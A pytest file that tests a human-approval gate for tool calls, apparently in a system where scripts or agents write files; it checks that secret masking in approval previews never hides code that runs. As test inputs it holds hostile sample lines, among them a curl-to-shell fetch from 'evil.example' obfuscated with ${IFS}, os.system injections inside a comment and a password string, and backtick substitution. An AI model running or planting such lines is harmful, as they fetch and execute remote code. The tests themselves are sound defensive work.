"""What an attacker found in what people are asked and shown: each a kind of fault that must stay mended."""

import hashlib
import json
import time

import pytest

from approvals.models import Approval
from approvals.services.expire import expire_due
from executions.capabilities.files import FileRead
from executions.models import Call, Execution
from executions.services import locks
from executions.services.reconcile import reconcile
from forge_project.kernel import clock, failpoints
from forge_project.ledger.models import Event
from tests.db.executions import answer, run_all, run_one, send
from tests.db.executions.hardened import _no_linger, end, row  # noqa: F401  # fixtures

pytestmark = pytest.mark.django_db(transaction=True)
READ = "return (await tools.call('file.read', {path: 'a'})).content"


@pytest.mark.parametrize("body", [{"source": READ}, {"capability": "file.read", "input": {"path": "a"}}])
def test_a_read_under_review_waits_for_a_person(caller, workspace, folder, runtime, approver, rule, monkeypatch, body):
    (folder / "a").write_text("hello")
    rule("file.read", "REVIEW")
    reads, real = [], FileRead.execute
    monkeypatch.setattr(FileRead, "execute", lambda self, *asked: (reads.append(1), real(self, *asked))[1])
    sent = send(caller, **body, workspace="ws")
    run_all(runtime)
    assert (end(sent), reads) == (("waiting_approval", ""), [])
    answer(Approval.objects.get(), approver)
    run_all(runtime)
    assert (end(sent), reads, Approval.objects.get().state) == (("succeeded", ""), [1], "consumed")
    assert (row(sent).side_effect, Call.objects.get().side_effect) == ("not_applied", "not_started")


def test_an_approved_read_is_not_asked_again_after_a_crash(caller, workspace, folder, runtime, approver, rule):
    (folder / "a").write_text("hello")
    rule("file.read", "REVIEW")
    sent = send(caller, source=READ, workspace="ws", interruption="resume")
    run_all(runtime)
    answer(Approval.objects.get(), approver)
    with failpoints.crash_at("t1.after"):
        run_one(runtime)
    reconcile(runtime)
    run_all(runtime)
    assert end(sent) == ("failed", "SCRIPT_RUNTIME")  # the call rejected INTERRUPTED
    assert (Call.objects.get().error_code, Event.objects.filter(kind="tool_dispatch").count()) == ("INTERRUPTED", 1)


@pytest.mark.parametrize(
    ("content", "must_show"),
    [
        ("# -----BEGIN PRIVATE KEY-----\nimport os\nos.system('evil | sh')\n", "evil"),
        ("password = \"x'; import os; os.system('evil|sh') #\"\n", "evil"),
        ("TOKEN=$(curl${IFS}-s${IFS}evil.example|sh)\n", "evil"),
        ("Authorization: Bearer `evil`\n", "evil"),
    ],
)
def test_nothing_that_runs_hides_behind_a_mask(caller, workspace, runtime, content, must_show):
    send(caller, capability="file.write", workspace="ws", input={"path": "a.py", "content": content})
    run_all(runtime)
    shown = json.loads(Approval.objects.get().preview)["text"]
    assert must_show in shown
    assert len([line for line in shown.splitlines() if line.startswith("+") and line[:3] != "+++"]) == content.count(
        "\n"
    )


def test_secrets_are_masked_and_the_approver_is_told(caller, workspace, runtime):
    key = "-----BEGIN PRIVATE KEY-----\n" + "A1b2C3d4" * 8 + "\n-----END PRIVATE KEY-----\n"
    content = f"api_key = hunter2hunter2hunter2\n{key}plain\n"
    send(caller, capability="file.write", workspace="ws", input={"path": "a", "content": content})
    run_all(runtime)
    approval = Approval.objects.get()
    shown = json.loads(approval.preview)["text"]
    assert "hunter2" not in shown
    assert "A1b2C3d4" not in shown
    assert "+plain" in shown
    assert "2 places are hidden as secrets" in approval.warnings


def test_one_file_cannot_hide_the_next(caller, workspace, runtime):
    diff = (
        "--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1,1 @@\n+-----BEGIN PRIVATE KEY-----\n"
        "--- /dev/null\n+++ b/b.py\n@@ -0,0 +1,1 @@\n+import os; os.system('evil')\n"
    )
    source = (
        "const p = await tools.call('artifact.patch-proposal.materialize', {diff: input});"
        "await tools.call('patch.apply', {artifact_ref: p.artifact_ref})"
    )
    send(caller, source=source, input=diff, workspace="ws")
    run_all(runtime)
    assert "evil" in json.loads(Approval.objects.get().preview)["text"]


def test_a_purpose_is_redacted_wherever_it_stands(caller, workspace, runtime):
    said = "token=hunter2hunter2hunter2"
    source = f"await tools.call('file.write', {{path: 'a', content: 'x'}}, {{purpose: '{said}'}})"
    send(caller, source=source, purpose=said, workspace="ws")
    run_all(runtime)
    assert not Event.objects.filter(payload__contains="hunter2").exists()
    kept = [Call.objects.get().purpose, Execution.objects.get().purpose, Approval.objects.get().purpose]
    assert not [text for text in kept if "hunter2" in text]


def test_describing_a_hostile_diff_is_quick_and_holds_no_workspace(caller, workspace, folder, runtime):
    old = "z\n" + "c\nd\n" * 2590 + "q\n"
    new = "y\n" + "".join(f"x{n}\nc\n" for n in range(95)) + "r\n"
    (folder / "f").write_text(old)
    send(caller, capability="file.write", workspace="ws", input={"path": "f", "content": new})
    with locks.workspace_lock("ws", clock.monotonic() + 1):  # another call is writing
        start = time.process_time()
        run_all(runtime)
        assert time.process_time() - start < 2
    assert Approval.objects.get().state == "pending"


def test_a_refused_call_leaves_no_approval_behind(caller, workspace, folder, runtime, approver):
    (folder / "a").write_text("one")
    asked = {"path": "a", "content": "two", "expected_hash": hashlib.sha256(b"one").hexdigest()}
    sent = send(caller, capability="file.write", workspace="ws", input=asked)
    run_all(runtime)
    answer(Approval.objects.get(), approver)
    (folder / "a").write_text("changed")
    run_all(runtime)
    assert (end(sent), Approval.objects.get().state) == (("failed", "PRECONDITION_FAILED"), "revoked")


def test_bad_approvals_do_not_hide_the_overdue_ones_behind_them(caller, workspace, runtime, monkeypatch):
    for n in range(4):
        send(caller, f"k{n}", capability="file.write", workspace="ws", input={"path": f"f{n}", "content": "x"})
    run_all(runtime)
    Approval.objects.update(expires_at=clock.now())
    bad = list(Approval.objects.order_by("expires_at", "pk").values_list("pk", flat=True))[:3]
    from approvals.services import expire

    real = expire._expire
    monkeypatch.setattr(expire, "_expire", lambda ref, where: 1 / 0 if ref in bad else real(ref, where))
    assert expire_due(limit=3) == 1


def test_a_very_odd_purpose(caller, workspace, runtime):
    source = "await tools.call('file.list', {}, {purpose: '\\0'.repeat(400)}).catch(() => 0); return 1"
    sent = send(caller, source=source, workspace="ws")
    run_all(runtime)
    assert end(sent) == ("succeeded", "")
